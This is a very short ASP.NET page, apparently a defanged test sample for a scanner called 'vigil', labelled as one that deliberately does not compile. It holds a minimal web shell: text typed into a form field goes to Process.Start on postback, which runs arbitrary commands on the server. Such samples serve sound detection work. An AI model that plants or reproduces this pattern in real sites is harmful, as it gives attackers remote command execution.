<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<form runat="server"><input type="text" id="q" runat="server" /></form>
<script runat="server">
void Page_Load() {
	if (IsPostBack) System.Diagnostics.Process.Start(q.Value);
}
</script>
